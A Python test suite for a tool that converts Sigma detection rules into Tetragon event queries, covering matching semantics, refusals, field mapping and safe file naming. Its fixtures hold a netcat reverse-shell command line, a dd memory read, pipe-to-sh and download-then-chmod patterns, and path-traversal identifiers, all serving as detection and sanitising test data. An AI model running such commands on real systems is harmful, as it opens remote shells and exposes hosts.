"""Sigma import through pySigma: the conversion keeps Sigma's matching semantics, refuses what it cannot keep,
and the converted rules run in the real engine on Tetragon's event shapes and on the scenario log."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml
from conftest import REPO
from sigma.rule import SigmaRule
from sigma.types import SigmaString

from tetrapipe.ruleset import load_ruleset
from tetrapipe.ruleset.sigma.backend import TetrapipeBackend, like_pattern
from tetrapipe.ruleset.sigma.check import Labelled, run_labelled
from tetrapipe.ruleset.sigma.convert import SigmaRefused, convert_document, import_sigma
from tetrapipe.ruleset.sigma.events import tetragon_event
from tetrapipe.ruleset.sigma.pipeline import FIELD_MAP
from tetrapipe.ruleset.sigma.write import write_rules
from tetrapipe.ruleset.testing import run_tests

SIGMA = Path(__file__).parent / "sigma"

ROWS = [  # a few events as the schema has them; the tests ask which of them a detection selects
    {
        "id": 1,
        "process_binary": "/usr/bin/nc",
        "arguments": "203.0.113.7 4444 -e /bin/sh",
        "parent_binary": "/bin/bash",
        "daddr": "203.0.113.7",
        "dport": 4444,
        "kind": "process_exec",
        "function_name": None,
        "pid": 10,
        "uid": 1000,
    },
    {
        "id": 2,
        "process_binary": "/usr/bin/NC",
        "arguments": "-l 127.0.0.1 8080",
        "parent_binary": "/bin/sh",
        "daddr": "10.1.2.3",
        "dport": 8080,
        "kind": "process_kprobe",
        "function_name": "tcp_connect",
        "pid": 20,
        "uid": 0,
    },
    {
        "id": 3,
        "process_binary": "/opt/app/100%_done*",
        "arguments": None,
        "parent_binary": None,
        "daddr": "fd00::1",
        "dport": 443,
        "kind": "process_kprobe",
        "function_name": "tcp_connect",
        "pid": 30,
        "uid": None,
    },
    {
        "id": 4,
        "process_binary": "/opt/app/100x-done",
        "arguments": "a=b",
        "parent_binary": "/usr/bin/python3",
        "daddr": None,
        "dport": None,
        "kind": "process_exec",
        "function_name": None,
        "pid": 40,
        "uid": 33,
    },
]


def condition_sql(detection: dict[str, Any], category: str = "process_creation") -> str:
    """The condition pySigma + tetrapipe's backend write for a Sigma detection block."""
    rule = SigmaRule.from_dict(
        {"title": "t", "logsource": {"product": "linux", "category": category}, "detection": detection}
    )
    return TetrapipeBackend().condition_sql(rule)


def select(detection: dict[str, Any]) -> list[int]:
    """The ids of ROWS the converted condition is true for, evaluated by DuckDB itself."""
    cols = list(ROWS[0])
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE events (id INT, process_binary VARCHAR, arguments VARCHAR, parent_binary VARCHAR, "
        "daddr VARCHAR, dport BIGINT, kind VARCHAR, function_name VARCHAR, pid BIGINT, "
        "parent_arguments VARCHAR, cwd VARCHAR, protocol VARCHAR, uid BIGINT)"
    )
    con.executemany(
        f"INSERT INTO events ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})",
        [[r[c] for c in cols] for r in ROWS],
    )
    sql = condition_sql(detection)
    return [r[0] for r in con.execute(f"SELECT id FROM events WHERE {sql} ORDER BY id").fetchall()]


def test_string_matching_is_case_insensitive_with_wildcards_like_sigma() -> None:
    assert select({"s": {"Image|endswith": "/nc"}, "condition": "s"}) == [1, 2]
    assert select({"s": {"Image|endswith|cased": "/nc"}, "condition": "s"}) == [1]
    assert select({"s": {"Image": "/usr/bin/n?"}, "condition": "s"}) == [1, 2]
    assert select({"s": {"Image": "*/100*"}, "condition": "s"}) == [3, 4]
    # % and _ are not wildcards in Sigma; \* is a literal star
    assert select({"s": {"Image": "/opt/app/100%_done\\*"}, "condition": "s"}) == [3]
    assert select({"s": {"Image|contains": "100%"}, "condition": "s"}) == [3]
    assert select({"s": {"CommandLine|contains|all": ["-e", "/bin/sh"]}, "condition": "s"}) == [1]
    assert select({"s": {"CommandLine|contains": ["-e", "-l"]}, "condition": "s"}) == [1, 2]
    assert select({"s": {"CommandLine": "/opt/app/100x-done a=b"}, "condition": "s"}) == [4]


def test_regex_numbers_nulls_cidr_and_fieldref() -> None:
    assert select({"s": {"Image|re": "/usr/bin/n[a-z]$"}, "condition": "s"}) == [1]
    assert select({"s": {"Image|re|i": "/usr/bin/n[a-z]$"}, "condition": "s"}) == [1, 2]
    assert select({"s": {"DestinationPort": [4444, 443]}, "condition": "s"}) == [1, 3]
    assert select({"s": {"DestinationPort|gte": 4444}, "condition": "s"}) == [1, 2]
    assert select({"s": {"ParentImage": None}, "condition": "s"}) == [3]
    assert select({"s": {"DestinationIp|exists": True}, "condition": "s"}) == [1, 2, 3]
    assert select({"s": {"DestinationIp|cidr": ["10.0.0.0/8", "192.168.0.0/16"]}, "condition": "s"}) == [2]
    assert select({"s": {"DestinationIp|cidr": "203.0.113.0/25"}, "condition": "s"}) == [1]
    assert select({"s": {"DestinationIp|cidr": ["fc00::/7"]}, "condition": "s"}) == [3]
    assert select({"s": {"DestinationIp|cidr": ["fe80::/10", "::1/128"]}, "condition": "s"}) == []
    assert select({"s": {"DestinationIp|cidr": ["10.0.0.0/8", "fd00::/64"]}, "condition": "s"}) == [2, 3]
    assert select({"s": {"DestinationIp|cidr": ["fd00::2/128"]}, "condition": "s"}) == []
    assert select({"s": {"Initiated": "true"}, "condition": "s"}) == [2, 3]
    assert select({"s": {"ProcessId|fieldref": "ProcessId"}, "condition": "s"}) == [1, 2, 3, 4]


def test_condition_grammar_and_null_safe_not() -> None:
    det = {
        "sel_nc": {"Image|endswith": "/nc"},
        "sel_py": {"ParentImage|endswith": "/python3"},
        "filter_local": {"CommandLine|contains": "127.0.0.1"},
    }
    assert select({**det, "condition": "1 of sel_*"}) == [1, 2, 4]
    assert select({**det, "condition": "all of sel_*"}) == []
    assert select({**det, "condition": "1 of sel_* and not filter_local"}) == [1, 4]
    assert select({**det, "condition": "sel_py or sel_nc and filter_local"}) == [2, 4]  # and binds tighter
    assert select({**det, "condition": "(sel_py or sel_nc) and filter_local"}) == [2]
    assert select({**det, "condition": "1 of them"}) == [1, 2, 4]
    # row 3 has no arguments and no parent: "not filter" is true for it, as in Sigma
    assert select({**det, "condition": "not filter_local and not sel_nc"}) == [3, 4]
    assert select({**det, "condition": ["sel_py", "sel_nc"]}) == [1, 2, 4]  # a list of conditions is an OR
    assert select({"s": [{"Image|endswith": "/nc", "DestinationPort": 4444}, {"ProcessId": 40}], "condition": "s"}) == [
        1,
        4,
    ]


def test_like_pattern_escapes() -> None:
    assert like_pattern(SigmaString("a*b?c")) == "a%b_c"
    assert like_pattern(SigmaString("100%_\\*\\?\\\\x")) == "100\\%\\_*?\\\\x"


def test_command_line_value_naming_a_bare_command_matches_the_basename_and_the_full_path() -> None:
    """Sigma writes argv as typed (``sh -c``); Tetragon reports /bin/sh and the arguments after argv[0]."""
    # ROWS 1: /usr/bin/nc 203.0.113.7 4444 -e /bin/sh; 2: /usr/bin/NC -l 127.0.0.1 8080
    assert select({"s": {"CommandLine|startswith": "nc 203.0.113.7"}, "condition": "s"}) == [1]
    assert select({"s": {"CommandLine|startswith": "nc "}, "condition": "s"}) == [1, 2]
    assert select({"s": {"CommandLine|startswith": "/usr/bin/nc 203"}, "condition": "s"}) == [1]
    assert select({"s": {"CommandLine": "nc -l 127.0.0.1 8080"}, "condition": "s"}) == [2]
    assert select({"s": {"CommandLine": "100x-done a=b"}, "condition": "s"}) == [4]
    assert select({"s": {"CommandLine|re": "^nc .* -e "}, "condition": "s"}) == [1]
    assert select({"s": {"CommandLine|startswith|cased": "NC -l"}, "condition": "s"}) == [2]
    # a filter naming the bare command excludes it (the benign exclusions of SigmaHQ's rules apply)
    det = {"sel": {"Image|endswith": ["/nc", "/NC"]}, "filter": {"CommandLine|startswith": "nc -l "}}
    assert select({**det, "condition": "sel and not filter"}) == [1]
    assert select({"s": {"ParentCommandLine": "sh"}, "condition": "s"}) == [2]  # parent /bin/sh, no arguments
    assert select({"s": {"ParentCommandLine|contains": "/bin/sh"}, "condition": "s"}) == [2]


def test_every_modifier() -> None:
    assert select({"s": {"Image|contains": "app/100"}, "condition": "s"}) == [3, 4]
    assert select({"s": {"Image|startswith": "/usr/"}, "condition": "s"}) == [1, 2]
    assert select({"s": {"Image|endswith": "-done"}, "condition": "s"}) == [4]
    assert select({"s": {"CommandLine|contains|all": ["4444", "-e"]}, "condition": "s"}) == [1]
    assert select({"s": {"CommandLine|contains|windash": " -l "}, "condition": "s"}) == [2]  # -l or /l
    b64 = condition_sql({"s": {"CommandLine|base64offset|contains": "hello"}, "condition": "s"})
    assert all(f"%{v}%" in b64 for v in ("aGVsbG", "hlbGxv", "oZWxsb"))  # the three offsets of "hello"
    assert select({"s": {"Image|re|i": "^/USR/BIN/NC$"}, "condition": "s"}) == [1, 2]
    assert select({"s": {"DestinationPort|lt": 4444}, "condition": "s"}) == [3]
    assert select({"s": {"DestinationPort|lte": 4444}, "condition": "s"}) == [1, 3]
    assert select({"s": {"DestinationPort|gt": 4444}, "condition": "s"}) == [2]
    assert select({"s": {"ParentImage|exists": False}, "condition": "s"}) == [3]
    assert select({"s": {"ParentImage|fieldref": "Image"}, "condition": "s"}) == []
    assert select({"s": {"Image|fieldref|startswith": "Image"}, "condition": "s"}) == [1, 2, 3, 4]
    assert select({"s": {"User": "root"}, "condition": "s"}) == [2]  # uid 0: the one name every system agrees on


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ({"k": ["whoami", "id"], "condition": "k"}, "keyword search 'whoami'"),
        ({"s": {"Image": "/x"}, "condition": "s | count() by Image > 5"}, "pipe syntax"),
        ({"s": {"Hostname": "x"}, "condition": "s"}, "field Hostname has no counterpart"),
        ({"s": {"User": "www-data"}, "condition": "s"}, "Tetragon reports uids, not user names"),
        ({"s": {"Hashes|contains": "x"}, "condition": "s"}, "field Hashes: Tetragon does not hash binaries"),
        ({"s": {"DestinationHostname": "x"}, "condition": "s"}, "field DestinationHostname: Tetragon's connect"),
        ({"s": {"CommandLine|base64offset|contains": "x"}, "condition": "s"}, "would match everything"),
        ({"s": {"DestinationIp|cidr": "10.0.0.300/8"}, "condition": "s"}, "Invalid CIDR"),
        ({"s": {"Image": "/x"}, "condition": "s and t"}, "Detection 't' not defined"),
        ({"s": {"Image": "/x"}, "condition": "1 of x_*"}, "doesn't match any detection"),
        ({"s": {"Image|endswith|sometimes": "/x"}, "condition": "s"}, "Unknown modifier 'sometimes'"),
        ({"s": {"Image|expand": "%folder%"}, "condition": "s"}, "placeholder"),
    ],
)
def test_what_cannot_be_kept_is_refused_with_the_reason(detection: dict[str, Any], reason: str) -> None:
    doc = {"title": "t", "logsource": {"product": "linux", "category": "process_creation"}, "detection": detection}
    with pytest.raises(SigmaRefused, match=re.escape(reason)):
        convert_document(doc, Path("x.yml"))


def test_log_sources_and_metadata() -> None:
    det = {"s": {"Image": "/x"}, "condition": "s"}
    with pytest.raises(SigmaRefused, match="service 'auditd'"):
        convert_document(
            {"title": "t", "logsource": {"product": "linux", "service": "auditd"}, "detection": det}, Path("a")
        )
    with pytest.raises(SigmaRefused, match="category 'image_load'"):
        convert_document(
            {"title": "t", "logsource": {"product": "linux", "category": "image_load"}, "detection": det}, Path("a")
        )
    report = import_sigma([SIGMA])
    assert report.other_platforms == {"windows": 1}
    assert [p.name for p, _ in report.refused] == ["user-field.yml"]
    converted = {c.source.name: c.document for c in report.converted}
    assert converted["passwd-modified.yml"]["event"] == ["process_kprobe", "process_lsm"]
    assert converted["passwd-modified.yml"]["requires"] == {"policies": ["file-monitoring"]}
    nc = converted["netcat-exec-shell.yml"]
    assert (nc["severity"], nc["mitre"], nc["event"]) == ("high", ["T1059.004"], "process_exec")
    assert nc["id"] == "sigma-netcat-handing-a-shell-to-a-remote-peer-6f1d2b7e"
    assert "Network debugging by administrators" in nc["false_positives"]
    # traced back and re-imported by the Sigma id; log source, level, status and tags as the Sigma rule says
    assert nc["sigma"] == {
        "id": "6f1d2b7e-4c0a-4e39-9d51-2a7f3c8b9e10",
        "category": "process_creation",
        "level": "high",
        "status": "test",
        "tags": ["attack.execution", "attack.t1059.004"],
    }


#: per Sigma field: (log source, a value in the rule, the event columns that match it, columns that do not)
FIELD_CASES: dict[str, tuple[str, Any, dict[str, Any], dict[str, Any]]] = {
    "Image": (
        "process_creation",
        "/usr/bin/curl",
        {"process_binary": "/usr/bin/curl"},
        {"process_binary": "/usr/bin/wget"},
    ),
    "CommandLine": (
        "process_creation",
        "sh -c id",
        {"process_binary": "/bin/sh", "arguments": "-c id"},
        {"process_binary": "/bin/bash", "arguments": "-c id"},
    ),
    "ParentImage": ("process_creation", "/usr/sbin/nginx", {"parent_binary": "/usr/sbin/nginx"}, {}),
    "ParentCommandLine": (
        "process_creation",
        "bash -i",
        {"parent_binary": "/bin/bash", "parent_arguments": "-i"},
        {"parent_binary": "/bin/bash", "parent_arguments": "-c ls"},
    ),
    "CurrentDirectory": ("process_creation", "/tmp", {"cwd": "/tmp"}, {"cwd": "/tmp/x"}),
    "ProcessId": ("process_creation", 4242, {"pid": 4242}, {"pid": 4243}),
    "ParentProcessId": ("process_creation", 4241, {"parent_pid": 4241}, {}),
    "LogonId": ("process_creation", 1000, {"auid": 1000}, {}),
    "User": ("process_creation", "root", {"uid": 0}, {"uid": 33}),
    "TargetFilename": ("file_event", "/etc/passwd", {"file_path": "/etc/passwd"}, {"file_path": "/etc/group"}),
    "DestinationIp": ("network_connection", "203.0.113.9", {"daddr": "203.0.113.9"}, {}),
    "DestinationPort": ("network_connection", 4444, {"dport": 4444}, {"dport": 443}),
    "SourceIp": ("network_connection", "10.244.1.77", {"saddr": "10.244.1.77"}, {}),
    "SourcePort": ("network_connection", 50999, {"sport": 50999}, {}),
    "Protocol": ("network_connection", "tcp", {"dport": 80}, None),
    "Initiated": ("network_connection", "true", {"dport": 80}, None),
}


def test_generated_firing_tests_fire_or_are_not_written(tmp_path: Path) -> None:
    """A firing test is built from the rule's own selection (bare command lines, parents, |all, filters left
    out) and kept only when the rule fires on it in the real engine; a regex-only rule gets none."""

    def rule(name: str, detection: dict[str, Any], category: str = "process_creation") -> None:
        doc = {
            "title": name,
            "id": f"1b2c3d4e-0000-4000-8000-{len(list(tmp_path.iterdir())):012d}",
            "logsource": {"product": "linux", "category": category},
            "detection": detection,
        }
        (tmp_path / f"{name}.yml").write_text(yaml.safe_dump(doc))

    rule("pipe", {"s": {"CommandLine|startswith": ["sh -c ", "bash -c "]},
                  "x": [{"CommandLine|contains": "| sh "}], "condition": "s and x"})  # fmt: skip
    rule("parent", {"s": {"ParentCommandLine": "bash -i", "Image|endswith": "/whoami"},
                    "f": {"CurrentDirectory": "/root"}, "condition": "s and not f"})  # fmt: skip
    rule("all", {"s": {"CommandLine|contains|all": ["of=", "/proc/", "/mem"], "Image|endswith": "/dd"},
                 "condition": "s"})  # fmt: skip
    rule("net", {"s": {"Initiated": "true", "DestinationPort|gte": 4000, "DestinationIp|cidr": "198.51.100.0/24"},
                 "condition": "s"}, "network_connection")  # fmt: skip
    rule("regex", {"s": {"CommandLine|re": "^(.){200,}$"}, "condition": "s"})
    report = import_sigma([tmp_path])
    assert report.refused == []
    tests = {c.document["title"]: c.document["tests"] for c in report.converted}
    assert tests["regex"] == [] and all(tests[n] for n in ("pipe", "parent", "all", "net")), tests
    write_rules(report.converted, tmp_path / "out")
    result = run_tests(load_ruleset([tmp_path / "out"]))  # the written tests pass
    assert result.ok and result.count("passed") == 4, result.summary()


def test_bare_command_lines_on_real_tetragon_events(tmp_path: Path) -> None:
    """On Tetragon's own recorded events (samples/real): Sigma values written as typed -- ``nsenter -t 1``,
    ``sh lifecycle.sh`` -- fire on /usr/bin/nsenter and /usr/bin/sh, and a filter naming the bare command
    keeps what it excludes quiet."""
    sigma = tmp_path / "sigma"
    sigma.mkdir()
    rules = {
        "nsenter": {"s": {"CommandLine|startswith": "nsenter -t 1 "}, "condition": "s"},
        "lifecycle": {"s": {"CommandLine": "sh lifecycle.sh"}, "condition": "s"},
        "lifecycle-children": {"s": {"ParentCommandLine": "sh lifecycle.sh"}, "condition": "s"},
        "shells-but-lifecycle": {
            "s": {"Image|endswith": ["/sh", "/nsenter"]},
            "f": {"CommandLine|startswith": "sh lifecycle"},
            "condition": "s and not f",
        },
    }
    for n, (title, det) in enumerate(rules.items()):
        doc = {"title": title, "id": f"3c4d5e6f-0000-4000-8000-{n:012d}", "status": "test",
               "logsource": {"product": "linux", "category": "process_creation"}, "detection": det}  # fmt: skip
        (sigma / f"{title}.yml").write_text(yaml.safe_dump(doc))
    report = import_sigma([sigma], firing_tests=False)
    # 10: /usr/bin/sh lifecycle.sh, which runs 7 (cat) and 14 (nc); 21: /usr/bin/nsenter -t 1 ...;
    # 33, 38: /bin/sh -c "..."
    expect = {"nsenter": [21], "lifecycle": [10], "lifecycle-children": [7, 14], "shells-but-lifecycle": [21, 33, 38]}
    for conv in report.converted:
        conv.document["tests"] = [
            {"name": "real events", "log": str(REPO / "samples" / "real" / "events-docs.log"),
             "expect": {"lines": expect[conv.document["title"]]}}
        ]  # fmt: skip
    write_rules(report.converted, tmp_path / "rules")
    result = run_tests(load_ruleset([tmp_path / "rules"]))
    assert result.ok and result.count("passed") == 4, [(r.rule_id, r.reason) for r in result.results]


def test_a_refused_correlation_rule_takes_its_base_rules_with_it_unless_generate(tmp_path: Path) -> None:
    """A correlation that cannot convert (here: a group-by no sequence key stands for) is refused by name;
    its base rules only exist inside it (they do not alert alone), unless ``generate: true``
    (conversions: tests/test_sigma_correlation.py)."""
    base = {"logsource": {"product": "linux", "category": "process_creation"}, "status": "test"}
    docs = [
        {**base, "title": "curl", "id": "4d5e6f70-0000-4000-8000-000000000001", "name": "curl",
         "detection": {"s": {"Image|endswith": "/curl"}, "condition": "s"}},
        {**base, "title": "chmod", "id": "4d5e6f70-0000-4000-8000-000000000002", "name": "chmod",
         "detection": {"s": {"Image|endswith": "/chmod"}, "condition": "s"}},
        {"title": "download then chmod", "id": "4d5e6f70-0000-4000-8000-000000000003", "status": "test",
         "correlation": {"type": "temporal_ordered", "rules": ["curl", "chmod"], "group-by": ["ParentProcessId"],
                         "timespan": "5m"}},
    ]  # fmt: skip
    (tmp_path / "c.yml").write_text(yaml.safe_dump_all(docs))
    report = import_sigma([tmp_path], firing_tests=False)
    assert report.converted == []
    assert [r for _, r in report.refused] == [
        "download then chmod: temporal_ordered group-by ParentProcessId: tetrapipe's sequence rules join their "
        "steps by container (container_id), pod (namespace, pod) or workload (namespace, workload)",
    ]
    docs[2]["correlation"]["generate"] = True  # the base rules are wanted on their own as well
    (tmp_path / "c.yml").write_text(yaml.safe_dump_all(docs))
    report = import_sigma([tmp_path], firing_tests=False)
    assert sorted(c.document["title"] for c in report.converted) == ["chmod", "curl"] and len(report.refused) == 1


def test_the_sigmahq_labels_are_well_formed() -> None:
    """bench/sigmahq.py's labelled set (our events; the SigmaHQ rules are not in the repository): at least 20
    distinct rules, each with a firing and a quiet event that tetrapipe can write as Tetragon JSON."""
    labels = yaml.safe_load((REPO / "bench" / "sigmahq_labels.yaml").read_text())
    assert len(labels) >= 20 and len({x["id"] for x in labels}) == len(labels)
    assert len({x["shape"] for x in labels}) == len(labels)
    for n, label in enumerate(labels):
        category = (
            "network_connection"
            if "daddr" in label["firing"]
            else ("file_event" if "file_path" in label["firing"] else "process_creation")
        )
        assert tetragon_event(category, label["firing"], n) != tetragon_event(category, label["quiet"], n)


def test_every_field_on_tetragon_event_shapes() -> None:
    """Each mapped Sigma field converts, and the rule fires on the JSON line Tetragon writes (normalizer
    included) and stays quiet on one that differs only in that field."""
    assert set(FIELD_MAP) == set(FIELD_CASES)
    items = []
    for n, (name, (category, value, firing, quiet)) in enumerate(sorted(FIELD_CASES.items())):
        doc = {
            "title": f"field {name}",
            "id": f"00000000-0000-4000-8000-{n:012d}",
            "logsource": {"product": "linux", "category": category},
            "detection": {"s": {name: value}, "condition": "s"},
        }
        conv = convert_document(doc, Path(f"{name}.yml"))
        items.append(
            Labelled(
                conv,
                [tetragon_event(category, firing, 1)],
                [tetragon_event(category, quiet, 2)] if quiet is not None else [],
            )
        )
    report = run_labelled(items)
    bad = [f"{r.rule_id}::{r.name}: {r.reason}" for r in report.results if r.status != "passed"]
    assert not bad, bad
    assert report.count("passed") == sum(1 + (q is not None) for *_, q in FIELD_CASES.values())


def test_import_then_detect_on_the_scenario(tmp_path: Path) -> None:
    """CLI end to end: import, the rules load and lint, and fire on exactly the scenario lines they describe."""
    out = tmp_path / "rules"
    cli = [sys.executable, "-m", "tetrapipe"]
    run = subprocess.run(
        [*cli, "rules", "import-sigma", str(SIGMA), "--out", str(out)], capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 1, run.stdout + run.stderr  # user-field.yml is refused
    assert "3 converted, 1 refused, 1 for other platforms (1 windows)" in run.stdout
    assert "field User: 'www-data': Tetragon reports uids, not user names" in run.stdout
    assert len(list(out.glob("*.yaml"))) == 3
    again = subprocess.run(
        [*cli, "rules", "import-sigma", str(SIGMA / "passwd-modified.yml"), "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert again.returncode == 1 and "exists (--force to overwrite)" in again.stdout
    # each converted rule got a firing test generated from its selection, run by rules test
    tested = subprocess.run([*cli, "rules", "test", str(out)], capture_output=True, text=True, timeout=120)
    assert tested.returncode == 0 and "3 passed, 0 failed" in tested.stdout, tested.stdout + tested.stderr
    lint = subprocess.run([*cli, "rules", "lint", str(out)], capture_output=True, text=True, timeout=120)
    assert "0 errors" in lint.stdout + lint.stderr, lint.stdout + lint.stderr
    lake = tmp_path / "lake"
    subprocess.run(
        [*cli, "ingest", str(REPO / "samples" / "scenario"), "--rules", str(out), "--lake", str(lake), "-q"],
        check=True,
        capture_output=True,
        timeout=120,
    )
    from tetrapipe.lake import connect

    con = connect(str(lake))
    fired = con.sql(
        "SELECT a.rule_id, e.source_offset FROM alerts a JOIN events e ON e.event_id = a.event_ids[1] "
        "ORDER BY e.source_offset"
    ).fetchall()
    con.close()
    assert fired == [
        ("sigma-credential-file-modified-0c4a9e2d", 107),
        ("sigma-netcat-handing-a-shell-to-a-remote-peer-6f1d2b7e", 116),
        ("sigma-outbound-connection-to-a-port-favoured-by-reverse-shells-9e2f7a41", 117),
    ]


def _sigma(path: Path, title: str, sigma_id: Any = None) -> None:
    """A Sigma rule that converts (the netcat one) with the given title and ``id`` (None: no id)."""
    doc = yaml.safe_load((SIGMA / "netcat-exec-shell.yml").read_text())
    doc["title"] = title
    doc.pop("id")
    if sigma_id is not None:
        doc["id"] = sigma_id
    path.write_text(yaml.safe_dump(doc, allow_unicode=True))


def _import(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "tetrapipe", "rules", "import-sigma", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else b"" for p in sorted(root.rglob("*"))}


def test_hostile_sigma_ids_and_titles_become_safe_file_names_inside_out(tmp_path: Path) -> None:
    """Ids that are not UUIDs (``/``, ``..``, NUL, a mapping) are refused by pySigma with the reason; titles that
    slug to nothing, carry control characters or collide still give every rule a name the loader takes, inside
    --out, ids unique, collisions numbered by source file."""
    sigma = tmp_path / "sigma"
    sigma.mkdir()
    same = "6f1d2b7e-0000-4000-8000-00000000000"
    hostile: dict[str, tuple[str, Any]] = {
        "a.yml": ("Escape", "../../../../escaped"),
        "b.yml": ("Nul", "ab\0cd-1"),
        "c.yml": ("Mapping", {"a": "/etc"}),
        "d.yml": ("../..", same + "1"),
        "e.yml": ("Long " * 50, same + "2"),  # pySigma refuses titles over 256 characters
        "g.yml": ("Same Title", None),
        "h.yml": ("Same Title", None),
        "i.yml": ("\0\n-rf /", same + "3"),
        "j.yml": ("Same Title", same + "4"),
        "k.yml": ("Same Title", same + "5"),
    }
    for name, (title, sigma_id) in hostile.items():
        _sigma(sigma / name, title, sigma_id)
    out = tmp_path / "out"
    run = _import(sigma, "--out", out)
    assert run.returncode == 1, run.stdout + run.stderr
    assert "7 converted, 3 refused" in run.stdout
    assert run.stdout.count("Sigma rule identifier must be an UUID") == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "sigma"]  # nothing escaped --out
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 7 and all(re.fullmatch(r"[a-z0-9][a-z0-9._-]{0,99}\.yaml", n) for n in names), names
    assert {
        "sigma-same-title.yaml",
        "sigma-same-title-2.yaml",
        "sigma-same-title-6f1d2b7e.yaml",
        "sigma-same-title-6f1d2b7e-2.yaml",
    } <= set(names)
    rs = load_ruleset([out])
    assert rs.errors == [] and sorted(f"{r.id}.yaml" for r in rs.rules) == names
    by_source = {Path(r.description.rsplit("from ", 1)[1].rstrip(").")).name: r for r in rs.rules}
    assert by_source["g.yml"].id == "sigma-same-title" and by_source["h.yml"].id == "sigma-same-title-2"
    assert by_source["k.yml"].sigma["id"] == same + "5"  # the Sigma id survives the renaming
    again = tmp_path / "again"  # the same rules given in another order get the same names
    assert _import(*sorted(sigma.iterdir(), reverse=True), "--out", again).returncode == 1
    assert sorted(p.name for p in again.iterdir()) == names


def test_an_import_writes_every_file_or_none(tmp_path: Path) -> None:
    """A converted rule that does not load (its id is taken by a rule already in --out) fails the import after
    the others were put in place: they are removed, a file --force replaced is back, nothing is left over."""
    out = tmp_path / "rules"
    out.mkdir()
    (out / "mine.yaml").write_text("""\
id: sigma-netcat-handing-a-shell-to-a-remote-peer-6f1d2b7e
title: a hand-written rule that already has the id
description: taken
severity: low
event: process_exec
condition: process_binary = '/bin/true'
output: "{process_binary}"
""")
    (out / "sigma-credential-file-modified-0c4a9e2d.yaml").write_text("# an older import, kept by hand\n")
    before = _tree(out)
    run = _import(SIGMA, "--out", out, "--force")
    assert run.returncode == 2, run.stdout + run.stderr
    assert "duplicate rule id" in run.stderr and "1 do not load, so none was written" in run.stdout
    assert _tree(out) == before
    refused = _import(SIGMA / "passwd-modified.yml", "--out", out)  # without --force: refused, nothing moved
    assert refused.returncode == 1 and "exists (--force to overwrite)" in refused.stdout and _tree(out) == before
    fresh = tmp_path / "new" / "dir"  # directories the import created go again when it fails
    report = import_sigma([SIGMA])
    result = write_rules(report.converted, fresh, validate=lambda files: [f"{len(files)} files rejected"])
    assert result.broken == ["3 files rejected"] and result.written == [] and not (tmp_path / "new").exists()
    result = write_rules(report.converted, fresh)
    assert (
        sorted(p.name for p in fresh.iterdir()) == sorted(t.name for _, t in result.written)
        and len(result.written) == 3
    )
